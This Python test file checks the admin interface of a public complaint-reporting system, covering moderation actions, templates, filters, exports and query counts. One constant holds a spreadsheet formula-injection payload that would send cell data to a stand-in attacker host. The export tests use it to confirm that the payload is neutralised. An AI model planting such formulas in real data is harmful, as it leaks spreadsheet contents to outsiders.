"""The e-laga admin: list filters, export, processing messages and constant queries."""

import csv
import io
import re
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.menu import admin_menu

from pengaduan.choices import StatusLaporan
from pengaduan.models import Laporan
from portal.models import Kecamatan, PerangkatDaerah
from portal.roles import MODERATOR_PENGADUAN, PETUGAS_OPD
from tests.pengaduan.factories import (
    DispatchedLaporanFactory,
    KategoriLaporanFactory,
    LaporanFactory,
    PetugasFactory,
    TemplateTanggapanFactory,
)

pytestmark = pytest.mark.django_db

S = StatusLaporan
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def moderator_client(client):
    client.force_login(PetugasFactory(username="moderator", role=MODERATOR_PENGADUAN))
    return client


def _messages(response):
    return [(m.level_tag, str(m)) for m in get_messages(response.wsgi_request)]


def _act(client, laporan, action, data):
    return client.post(reverse("laporan:action", args=[laporan.pk, action]), data)


def _action_page(client, laporan, action):
    response = client.get(reverse("laporan:action", args=[laporan.pk, action]))
    assert response.status_code == HTTPStatus.OK
    return response


def test_verifying_changes_status_through_the_service_with_a_success_message(
    moderator_client,
):
    laporan = LaporanFactory()
    response = _act(moderator_client, laporan, "verifikasi", {})
    laporan.refresh_from_db()
    assert laporan.status == S.DIVERIFIKASI
    assert laporan.linimasa.get().author.username == "moderator"
    assert ("success", f"Laporan {laporan.kode_lacak} telah diverifikasi.") in (
        _messages(response)
    )


def test_verify_and_dispatch_is_one_step_with_the_categorys_office_preselected(
    moderator_client,
):
    laporan = LaporanFactory()
    office = PerangkatDaerah.objects.get(slug="dinas-pupr")
    laporan.kategori.perangkat_daerah_default = office
    laporan.kategori.save()
    page = _action_page(moderator_client, laporan, "verifikasi-disposisi")
    assert f'<option value="{office.pk}" selected>' in page.content.decode()

    response = _act(
        moderator_client,
        laporan,
        "verifikasi-disposisi",
        {
            "verifikasi-disposisi-perangkat_daerah": office.pk,
            "verifikasi-disposisi-catatan": "Mohon ditinjau minggu ini.",
        },
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIDISPOSISIKAN
    assert laporan.perangkat_daerah == office
    assert laporan.diverifikasi_pada is not None
    assert [entry.status_to for entry in laporan.linimasa.all()] == [
        S.DIVERIFIKASI,
        S.DIDISPOSISIKAN,
    ]
    assert (
        "success",
        f"Laporan {laporan.kode_lacak} telah diverifikasi dan didisposisikan.",
    ) in _messages(response)


def test_rejecting_without_a_reason_shows_the_error_beside_it_and_changes_nothing(
    moderator_client,
):
    laporan = LaporanFactory()
    response = _act(moderator_client, laporan, "tolak", {"tolak-alasan": "  "})
    laporan.refresh_from_db()
    assert laporan.status == S.BARU
    assert laporan.linimasa.count() == 0
    assert response.status_code == HTTPStatus.OK
    assert response.context["form"].errors["alasan"]
    assert [level for level, _text in _messages(response)] == ["error"]


def test_dispatching_to_an_inactive_office_shows_an_error_and_changes_nothing(
    moderator_client,
):
    laporan = LaporanFactory(status=S.DIVERIFIKASI, batas_waktu=None)
    closed_office = PerangkatDaerah.objects.get(slug="setwan")
    closed_office.aktif = False
    closed_office.save()
    response = _act(
        moderator_client,
        laporan,
        "disposisi",
        {
            "disposisi-perangkat_daerah": closed_office.pk,
            "disposisi-catatan": "Mohon ditinjau minggu ini.",
        },
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIVERIFIKASI
    assert laporan.perangkat_daerah is None
    assert response.context["form"].errors["perangkat_daerah"]
    assert "Mohon ditinjau minggu ini." in response.content.decode()


def test_an_action_invalid_for_the_status_shows_an_error(moderator_client):
    laporan = DispatchedLaporanFactory()
    response = _act(moderator_client, laporan, "tutup", {})
    laporan.refresh_from_db()
    assert laporan.status == S.DIDISPOSISIKAN
    assert [level for level, _text in _messages(response)] == ["error"]


def test_an_internal_followup_keeps_the_status_and_is_not_public(moderator_client):
    laporan = DispatchedLaporanFactory()
    _act(
        moderator_client,
        laporan,
        "tindak-lanjut",
        {"tindak-lanjut-pesan": "Menunggu anggaran."},
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIDISPOSISIKAN
    assert not laporan.linimasa.get().is_public


def test_the_detail_shows_only_the_actions_valid_for_the_status(moderator_client):
    laporan = LaporanFactory()
    html = moderator_client.get(
        reverse("laporan:inspect", args=[laporan.pk])
    ).content.decode()
    assert reverse("laporan:action", args=[laporan.pk, "verifikasi"]) in html
    assert reverse("laporan:action", args=[laporan.pk, "tolak"]) in html
    assert reverse("laporan:action", args=[laporan.pk, "selesaikan"]) not in html
    assert reverse("laporan:action", args=[laporan.pk, "tutup"]) not in html


#: Each step whose message reaches the reporter, the report's status it needs and the
#: message field the response templates fill.
MESSAGE_STEPS = [
    ("verifikasi", S.BARU, "catatan"),
    ("tolak", S.BARU, "alasan"),
    ("disposisi", S.DIVERIFIKASI, "catatan"),
    ("tindak-lanjut", S.DIDISPOSISIKAN, "pesan"),
    ("selesaikan", S.DIDISPOSISIKAN, "pesan"),
    ("tutup", S.SELESAI, "catatan"),
]


@pytest.mark.parametrize(("action", "status", "message_field"), MESSAGE_STEPS)
def test_every_message_step_offers_the_categorys_templates_for_its_one_message_box(
    moderator_client, action, status, message_field
):
    laporan = DispatchedLaporanFactory(status=status)
    own = TemplateTanggapanFactory(
        kategori=laporan.kategori, judul="Peninjauan", isi="Tim PUPR meninjau."
    )
    general = TemplateTanggapanFactory(kategori=None, isi="Terima kasih, Bapak/Ibu.")
    other = TemplateTanggapanFactory(
        kategori=KategoriLaporanFactory(nama="Kesehatan", slug="kesehatan"),
        isi="Puskesmas menindaklanjuti.",
    )
    response = _action_page(moderator_client, laporan, action)
    html = response.content.decode()

    select = re.search(
        rf'<select name="{action}-template"[^>]*>.*?</select>', html, re.DOTALL
    ).group(0)
    # The select names the one message box it fills; there is only one on the page.
    assert f'data-response-template-for="id_{action}-{message_field}"' in select
    assert html.count("data-response-template-for") == 1
    # Each option carries its text for the script; other categories are not offered.
    assert f'value="{own.pk}" data-template-text="Tim PUPR meninjau."' in select
    assert 'data-template-text="Terima kasih, Bapak/Ibu."' in select
    assert str(general.pk) in select
    assert "Puskesmas menindaklanjuti." not in html
    assert str(other.judul) not in select
    # The script comes from the site itself (the admin CSP allows 'self').
    assert '<script src="/static/pengaduan/js/response-templates.js"' in html
    # No reload: the old chooser (a GET form) is gone from the report's page.
    detail = moderator_client.get(reverse("laporan:inspect", args=[laporan.pk]))
    assert "Pakai template" not in detail.content.decode()


def test_the_template_picker_is_never_read_on_the_server(moderator_client):
    laporan = LaporanFactory()
    TemplateTanggapanFactory(kategori=None, isi="Laporan sedang diperiksa.")
    _act(
        moderator_client,
        laporan,
        "verifikasi",
        {"verifikasi-template": "bukan-template", "verifikasi-catatan": "Lengkap."},
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIVERIFIKASI
    assert laporan.linimasa.get().message == "Lengkap."


def test_the_dispatch_form_preselects_the_categorys_office_among_active_offices_by_name(
    moderator_client,
):
    laporan = LaporanFactory(status=S.DIVERIFIKASI, batas_waktu=None)
    closed = PerangkatDaerah.objects.get(slug="dinkes")
    closed.aktif = False
    closed.save()
    form = _action_page(moderator_client, laporan, "disposisi").context["form"]

    assert (
        form["perangkat_daerah"].value() == laporan.kategori.perangkat_daerah_default_id
    )
    offered = [str(label) for value, label in form.fields["perangkat_daerah"].choices][
        1:
    ]
    assert offered == sorted(offered, key=str.casefold)
    assert len(offered) == PerangkatDaerah.objects.filter(aktif=True).count()
    assert str(closed) not in offered


def test_laporan_comes_first_in_the_elaga_menu(rf):
    request = rf.get("/admin/")
    request.user = PetugasFactory(role=MODERATOR_PENGADUAN)
    elaga = next(
        item
        for item in admin_menu.menu_items_for_request(request)
        if item.name == "e-laga"
    )
    items = sorted(elaga.menu.menu_items_for_request(request), key=lambda i: i.order)
    assert str(items[0].label) == "Laporan"


def test_the_overdue_filter_lists_only_reports_past_their_deadline(moderator_client):
    late = DispatchedLaporanFactory(
        batas_waktu=timezone.localdate() - timezone.timedelta(days=3)
    )
    on_time = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:index"), {"terlambat": "true"})
    assert list(response.context["object_list"]) == [late]
    html = response.content.decode()
    assert "Terlambat" in html
    assert on_time.kode_lacak not in html


@pytest.mark.parametrize("field", ["status", "kecamatan", "perangkat_daerah"])
def test_the_list_filters_by_status_kecamatan_and_office(moderator_client, field):
    new = LaporanFactory()
    dispatched = DispatchedLaporanFactory(
        kecamatan=Kecamatan.objects.get(slug="stabat"),
        desa=None,
    )
    params = {
        "status": {"status": S.BARU},
        "kecamatan": {"kecamatan": dispatched.kecamatan_id},
        "perangkat_daerah": {"perangkat_daerah": dispatched.perangkat_daerah_id},
    }[field]
    response = moderator_client.get(reverse("laporan:index"), params)
    expected = new if field == "status" else dispatched
    assert list(response.context["object_list"]) == [expected]


def test_the_export_has_no_reporter_identity(moderator_client):
    laporan = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    assert laporan.kode_lacak in content
    assert "Kode lacak" in content.splitlines()[0]
    for identity in (laporan.nama_pelapor, laporan.email, laporan.telepon, "1205"):
        assert identity not in content


def test_the_csv_export_shows_a_formula_like_title_as_text(moderator_client):
    laporan = LaporanFactory(judul=HYPERLINK)
    response = moderator_client.get(reverse("laporan:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    row = next(
        row for row in csv.reader(io.StringIO(content)) if row[0] == laporan.kode_lacak
    )
    assert row[2] == "'" + HYPERLINK


def test_the_xlsx_export_stores_a_formula_like_title_as_text(moderator_client):
    LaporanFactory(judul=HYPERLINK)
    response = moderator_client.get(reverse("laporan:index"), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    title = next(
        cell
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value == HYPERLINK
    )
    assert title.data_type == "s"


def test_the_list_keeps_a_constant_number_of_queries(moderator_client):
    def count_queries(reports):
        Laporan.objects.all().delete()
        DispatchedLaporanFactory.create_batch(reports)
        with CaptureQueriesContext(connection) as queries:
            response = moderator_client.get(reverse("laporan:index"))
        assert response.status_code == HTTPStatus.OK
        return len(queries)

    assert count_queries(3) == count_queries(30)


def test_the_dashboard_panel_counts_the_officers_scope_and_lists_overdue_reports(
    client,
):
    yesterday = timezone.localdate() - timezone.timedelta(days=1)
    late = DispatchedLaporanFactory(batas_waktu=yesterday, judul="Drainase tersumbat")
    DispatchedLaporanFactory(
        perangkat_daerah=PerangkatDaerah.objects.get(slug="dinkes"),
        batas_waktu=yesterday,
        judul="Antrean puskesmas",
    )
    client.force_login(
        PetugasFactory(username="pupr", role=PETUGAS_OPD, opd="dinas-pupr")
    )
    html = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "Laporan e-laga" in html
    assert late.judul in html
    assert "Antrean puskesmas" not in html
    assert "?terlambat=true" in html


def test_the_dashboard_panel_keeps_a_constant_number_of_queries(moderator_client):
    def count_queries(reports):
        Laporan.objects.all().delete()
        DispatchedLaporanFactory.create_batch(
            reports, batas_waktu=timezone.localdate() - timezone.timedelta(days=2)
        )
        with CaptureQueriesContext(connection) as queries:
            moderator_client.get(reverse("wagtailadmin_home"))
        return len(queries)

    assert count_queries(2) == count_queries(15)


def test_moderators_may_correct_only_the_kind_not_the_text_privacy_or_status(
    moderator_client,
):
    laporan = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:edit", args=[laporan.pk]))
    fields = set(response.context["form"].fields)
    assert fields == {"jenis"}
